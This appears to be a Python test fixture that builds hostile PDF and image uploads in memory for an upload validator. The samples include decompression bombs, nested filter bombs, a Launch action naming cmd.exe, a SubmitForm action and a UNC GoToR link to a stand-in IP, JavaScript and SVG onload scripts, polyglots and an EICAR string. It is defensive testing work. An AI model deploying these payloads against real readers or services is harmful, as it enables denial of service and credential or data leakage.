"""Hostile files, generated: what applicants, and people who are not applicants, may upload.

Each entry is one file with the slug it must be refused with, or None when it is to be accepted; `why` numbers and
names the attack. Made afresh in memory, so that no scanner ever finds one of them in the repository.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image


@dataclass(frozen=True)
class Hostile:
    why: str
    data: Callable[[], bytes]
    slug: str | None
    name: str = "giay-to.pdf"
    flag: str | None = None


def blank_pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF of one A4 page, changed before it is saved."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(pdf)
    packed = io.BytesIO()
    pdf.save(packed, **saving)  # type: ignore[arg-type]
    return packed.getvalue()


def raw_pdf(objects: list[bytes], *, xref: bool = True, root: int = 1) -> bytes:
    """A PDF by hand: the objects, numbered from 1, and a table that is right."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if xref:
        start = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, root, start)
    return bytes(out + b"%%EOF\n")


def page_objects(content: bytes, page: bytes = b"/MediaBox [0 0 595 842]", resources: bytes = b"<< >>") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R " + page + b" /Contents 4 0 R /Resources " + resources + b" >>",
        content,
    ]


def stream(data: bytes, entries: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


@functools.cache
def zeros(megabytes: int) -> bytes:
    """So many megabytes of nothing, deflated without ever standing in memory whole."""
    packer, out = zlib.compressobj(9), bytearray()
    for _ in range(megabytes):
        out += packer.compress(bytes(1 << 20))
    return bytes(out + packer.flush())


def page_with_box(box: bytes) -> bytes:
    return raw_pdf(page_objects(stream(b"", b""), b"/MediaBox " + box))


def with_filters(data: bytes, filters: bytes) -> bytes:
    return raw_pdf(page_objects(stream(data, b"/Filter " + filters)))


def image_pdf(entries: bytes, data: bytes) -> bytes:
    picture = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    content = stream(b"q 595 0 0 842 0 0 cm /I Do Q", b"")
    return raw_pdf([*page_objects(content, resources=b"<< /XObject << /I 5 0 R >> >>"), picture])


def object_stream_bomb() -> bytes:
    objects = page_objects(stream(b"", b""))
    objects.append(stream(zeros(300), b"/Type /ObjStm /N 1000000 /First 9000000 /Filter /FlateDecode"))
    return raw_pdf(objects)


def png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    check = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def png(
    width: int, height: int, body: bytes | None = None, extra: bytes = b"", depth: int = 1, crc: int | None = None
) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0), crc)
    if body is None:
        body = zlib.compress(bytes((1 + (width * depth + 7) // 8) * height))
    return b"\x89PNG\r\n\x1a\n" + head + extra + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def photo(kind: str = "JPEG", size: tuple[int, int] = (300, 400), **saving: object) -> bytes:
    packed = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(packed, kind, **saving)
    return packed.getvalue()


def animation(kind: str) -> bytes:
    packed = io.BytesIO()
    frames = [Image.new("L", (32, 32), shade * 20) for shade in range(10)]
    frames[0].save(packed, kind, save_all=True, append_images=frames[1:])
    return packed.getvalue()


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _action(kind: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **entries)
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].Annots = pikepdf.Array([link])

    return change


def _attach(name: str, data: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = data

    return change


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))


def _rich_media(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])])


def _pages(count: int) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            pdf.add_blank_page(page_size=(595, 842))

    return change


def looping_pdf() -> bytes:
    """The page tree holds itself and the table of objects names itself as its predecessor."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(
        (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), 1
    ):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size 3 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (start, start)
    return bytes(out)


_LOCKED = pikepdf.Encryption(user="bí mật".encode().decode(), owner="chủ")
_OWNED = pikepdf.Encryption(user="", owner="chủ")
_BIG_IMAGE = b"/Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"

FILES = (
    Hostile("1 empty", lambda: b"", "file-empty"),
    Hostile("2 one byte too many", lambda: b"%PDF-1.7\n".ljust((20 << 20) + 1, b" "), "file-too-large"),
    Hostile("4 a program called .pdf", lambda: b"MZ\x90\x00" + bytes(400), "file-type-not-allowed"),
    Hostile("5 PNG called .pdf", lambda: png(10, 10), "file-type-mismatch"),
    Hostile("6 a header and nothing else", lambda: b"%PDF-1.7", "file-damaged"),
    Hostile("7 cut in half", lambda: (whole := blank_pdf(_pages(9)))[: len(whole) // 2], "file-damaged"),
    Hostile(
        "8 no table of objects",
        lambda: raw_pdf([*page_objects(stream(b"", b""))], xref=False)[:-6] + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n",
        None,
        flag="repaired",
    ),
    Hostile("9 loops", looping_pdf, "file-damaged"),
    Hostile(
        "10 an array 200,000 deep",
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /X 5 0 R >>",
                *page_objects(stream(b"", b""))[1:],
                b"[" * 200_000 + b"]" * 200_000,
            ]
        ),
        "file-damaged",
    ),
    Hostile("11 user password", lambda: blank_pdf(encryption=_LOCKED), "file-password-protected"),
    Hostile("12 owner password only", lambda: blank_pdf(encryption=_OWNED), None, flag="encrypted"),
    Hostile("13 JavaScript on opening", lambda: blank_pdf(_script), None, flag="javascript"),
    Hostile("14 Launch", lambda: blank_pdf(_action("Launch", F="cmd.exe")), "file-active-content"),
    Hostile("15 a program attached", lambda: blank_pdf(_attach("evil.exe", b"MZ")), "file-has-attachments"),
    Hostile("16a a PDF attached", lambda: blank_pdf(_attach("x.pdf", blank_pdf())), "file-active-content"),
    Hostile("16b XFA", lambda: blank_pdf(_xfa), "file-active-content"),
    Hostile("16c RichMedia", lambda: blank_pdf(_rich_media), "file-active-content"),
    Hostile("16d GoToR to UNC", lambda: blank_pdf(_action("GoToR", F="\\\\198.51.100.7\\x")), "file-active-content"),
    Hostile(
        "16e SubmitForm", lambda: blank_pdf(_action("SubmitForm", F="http://198.51.100.7/")), "file-active-content"
    ),
    Hostile("17 deflate bomb", lambda: with_filters(zeros(300), b"/FlateDecode"), "file-too-complex"),
    Hostile(
        "18 deflate in deflate",
        lambda: with_filters(zlib.compress(zeros(300), 9), b"[/FlateDecode /FlateDecode]"),
        "file-too-complex",
    ),
    Hostile(
        "18b the same, undeclared", lambda: with_filters(zlib.compress(zeros(300), 9), b"5 0 R"), "file-too-complex"
    ),
    Hostile(
        "19 twenty filters", lambda: with_filters(b"00>", b"[" + b"/ASCIIHexDecode " * 20 + b"]"), "file-too-complex"
    ),
    Hostile(
        "19b hex around a bomb",
        lambda: with_filters(zeros(100).hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"),
        "file-too-complex",
    ),
    Hostile(
        "19c run lengths in run lengths",
        lambda: with_filters(b"\x81\x81" * 600_000, b"[/RunLengthDecode /RunLengthDecode]"),
        "file-too-complex",
    ),
    Hostile("20 object stream of a million", object_stream_bomb, "file-too-complex"),
    Hostile("21a 200 inches", lambda: page_with_box(b"[0 0 14400 14400]"), None),
    Hostile("21b 2,000,000 points", lambda: page_with_box(b"[0 0 2000000 2000000]"), "page-size-not-supported"),
    Hostile("22a no height", lambda: page_with_box(b"[0 0 595 0]"), "page-size-not-supported"),
    Hostile(
        "23 UserUnit",
        lambda: raw_pdf(page_objects(stream(b"", b""), b"/MediaBox [0 0 595 842] /UserUnit 75000")),
        "page-size-not-supported",
    ),
    Hostile("24 3,000 pages", lambda: blank_pdf(_pages(3000)), "too-many-pages"),
    Hostile(
        "25 no page",
        lambda: raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "file-empty",
    ),
    Hostile("26 image of 400 Mpx", lambda: image_pdf(_BIG_IMAGE, zeros(300)), "image-too-large"),
    Hostile(
        "27a JPX without a header",
        lambda: image_pdf(b"/Width 9 /Height 9 /Filter /JPXDecode", b"nonsense" * 9),
        "file-damaged",
    ),
    Hostile(
        "27b JBIG2 without a header",
        lambda: image_pdf(
            b"/Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode", b"\xff" * 40
        ),
        "file-damaged",
    ),
    Hostile(
        "30a HTML before, ZIP behind",
        lambda: b"<html><script>alert(1)</script>\n" + blank_pdf() + b"PK\x05\x06" + bytes(18),
        None,
        flag="leading-data",
    ),
    Hostile("31 PNG 50,000 x 50,000", lambda: png(50_000, 50_000, body=b"x"), "image-too-large", "anh.png"),
    Hostile("32 PNG of 144 Mpx", lambda: png(12_000, 12_000), "image-too-large", "anh.png"),
    Hostile(
        "33 zTXt bomb",
        lambda: png(9, 9, extra=png_chunk(b"zTXt", b"k\0\0" + zeros(300))),
        "file-too-complex",
        "anh.png",
    ),
    Hostile("33b more pixels than declared", lambda: png(9, 9, body=zeros(300)), "file-too-complex", "anh.png"),
    Hostile("34a animated PNG", lambda: animation("PNG"), "file-type-not-allowed", "anh.png"),
    Hostile("34b GIF", lambda: animation("GIF"), "file-type-not-allowed", "anh.gif"),
    Hostile("34c TIFF", lambda: animation("TIFF"), "file-type-not-allowed", "anh.tif"),
    Hostile("35a JPEG cut", lambda: photo()[:-500], "file-damaged", "anh.jpg"),
    Hostile("35b PNG with a wrong checksum", lambda: png(9, 9, crc=1), "file-damaged", "anh.png"),
    Hostile("35c PNG cut", lambda: photo("PNG")[:-30], "file-damaged", "anh.png"),
    Hostile("36 a comment of 64 KB", lambda: photo(comment=b"<script>" * 8_000), None, "anh.jpg"),
    Hostile(
        "37 SVG called .png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "file-type-not-allowed",
        "anh.png",
    ),
    Hostile("38a HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(99), "file-type-not-allowed", "anh.heic"),
    Hostile("38b DOCX", lambda: b"PK\x03\x04" + bytes(99), "file-type-not-allowed", "don.docx"),
    Hostile("38c WebP", lambda: photo("WEBP"), "file-type-not-allowed", "anh.webp"),
    Hostile(
        "39 EICAR",
        lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*",
        "file-infected",
        "eicar.pdf",
    ),
)
